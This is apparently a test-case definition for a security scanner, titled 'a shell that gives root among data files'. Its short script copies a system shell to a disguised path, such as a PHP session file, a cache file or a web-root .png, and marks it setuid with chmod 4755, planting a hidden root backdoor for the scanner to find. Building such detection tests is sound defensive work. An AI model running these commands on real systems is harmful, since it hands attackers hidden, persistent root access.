# id: P115
# mode: scan
# level: suspicious
# title: a shell that gives root among data files
# due: now
word name
pick path /var/lib/php/sessions/sess_$name /home/anna/.cache/$name /var/lib/postgresql/.$name /var/www/html/$name.png /opt/$name
pick shell /bin/bash /bin/dash /usr/bin/busybox
mkdir -p "${path%/*}"
cp "$shell" "$path"
chmod 4755 "$path"
said path "$path"
